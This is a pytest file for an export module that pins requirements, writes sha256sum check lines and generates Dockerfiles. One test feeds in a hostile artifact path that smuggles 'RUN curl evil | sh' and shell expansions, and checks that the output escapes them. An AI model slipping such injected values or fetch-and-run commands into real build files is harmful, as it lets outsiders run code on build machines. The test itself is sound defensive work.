"""Texts of an export: nothing in them that data wrote is understood as anything but a name."""

import subprocess
from pathlib import Path
from typing import Any

import pytest

from expbench.services.exporting import checksum_line, dockerfile, requirements


def test_packages_are_pinned_and_what_pip_would_misread_is_left_out() -> None:
    told = requirements({
        "numpy": "1.26.4", "torch": "2.3.0+cu121", "typing_extensions": "4.12", "-e .": "1", "x": "1\n--pre",
        "a b": "1", "y": "", "z": "1 ; python_version < '3'",
    })  # fmt: skip
    assert told.text == "numpy==1.26.4\ntorch==2.3.0+cu121\ntyping_extensions==4.12\n"
    assert told.left_out == ["-e .", "a b", "x", "y", "z"]


@pytest.mark.parametrize("name", ["plain", "with space", "back\\slash", "line\nend", "ret\rurn", "ünïcode", "  lead"])
def test_sha256sum_reads_every_name(name: str, tmp_path: Path) -> None:
    import hashlib

    (tmp_path / name).write_text("content")
    digest = hashlib.sha256(b"content").hexdigest()
    (tmp_path / "SUMS").write_text(checksum_line(digest, name), newline="")
    words = ["sha256sum", "--check", "--strict", "--quiet", "SUMS"]
    done = subprocess.run(words, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_a_hostile_path_is_a_label_and_nothing_else() -> None:
    artifact = {"path": 'a"\nRUN curl evil | sh\n$(x) ${HOME}', "size": 1, "sha256": "0" * 64}
    version: Any = {"model": "m", "version": "v0.0.1", "run": "r", "artifact": artifact}
    document: Any = {"env": {"python": "3.12.1\nRUN evil"}}
    lines = dockerfile(version, document).splitlines()
    assert lines[1] == "FROM python:3.12-slim"
    assert [line.split()[0] for line in lines[1:]] == [
        "FROM", "WORKDIR", "COPY", "RUN", "COPY", "COPY", "COPY", *["LABEL"] * 5, "CMD",
    ]  # fmt: skip
    assert '\\${HOME}"' in next(line for line in lines if line.startswith("LABEL artifact"))
